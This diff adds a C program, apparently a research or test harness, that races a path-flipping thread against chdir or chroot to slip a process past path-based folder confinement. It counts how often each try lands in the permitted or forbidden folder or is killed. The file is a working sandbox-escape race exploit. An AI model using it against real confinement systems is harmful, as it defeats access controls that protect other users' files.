@@ -1,0 +1,98 @@
+/* SPDX-License-Identifier: ISC */
+/*
+ * Attack 1, with chdir: while a thread flips the path between a permitted
+ * and a forbidden folder the process moves there, and opens what it then
+ * stands in. Each try is a process of its own, for one that is found in the
+ * wrong folder is killed.
+ *
+ * usage: chdir-flip path-of-permitted letter-of-forbidden tries [chroot]
+ */
+#include <sys/stat.h>
+#include <sys/wait.h>
+
+#include <err.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <limits.h>
+#include <pthread.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+enum {
+	PERMITTED = 10,
+	FORBIDDEN,
+	REFUSED,
+	NOWHERE
+};
+
+static char path[PATH_MAX];
+static volatile char *letter;
+static char letters[2];
+static bool root;
+
+static void *
+flip(void *p)
+{
+	unsigned int i = 0;
+
+	(void)p;
+	for (;;)
+		*letter = letters[i++ & 1];
+	return NULL;
+}
+
+/* The file "name" in each folder holds the folder's letter. */
+static int
+try(void)
+{
+	pthread_t flipper;
+	char c = 0;
+	int fd;
+
+	if (pthread_create(&flipper, NULL, flip, NULL) != 0)
+		return NOWHERE;
+	if ((root ? chroot(path) : chdir(path)) == -1)
+		return REFUSED;
+	fd = open(root ? "/name" : "name", O_RDONLY);
+	if (fd == -1 || read(fd, &c, 1) != 1)
+		return NOWHERE;
+	return c == letters[0] ? PERMITTED : FORBIDDEN;
+}
+
+int
+main(int argc, char *argv[])
+{
+	unsigned long tries, i, count[256] = { 0 }, killed = 0;
+	int status;
+	pid_t pid;
+
+	if (argc < 4)
+		errx(2, "usage: chdir-flip path letter tries [chroot]");
+	(void)snprintf(path, sizeof(path), "%s", argv[1]);
+	letter = path + strlen(path) - 1;
+	letters[0] = *letter;
+	letters[1] = argv[2][0];
+	tries = strtoul(argv[3], NULL, 10);
+	root = argc > 4;
+	for (i = 0; i < tries; i++) {
+		pid = fork();
+		if (pid == -1)
+			err(1, "fork");
+		if (pid == 0)
+			_exit(try());
+		if (waitpid(pid, &status, 0) != pid)
+			err(1, "waitpid");
+		if (WIFEXITED(status))
+			count[WEXITSTATUS(status) & 0xff]++;
+		else if (WTERMSIG(status) == SIGKILL)
+			killed++;
+	}
+	printf("permitted %lu\nforbidden %lu\nrefused %lu\nkilled %lu\n",
+	    count[PERMITTED], count[FORBIDDEN], count[REFUSED], killed);
+	printf("nowhere %lu\n", count[NOWHERE]);
+	return 0;
+}
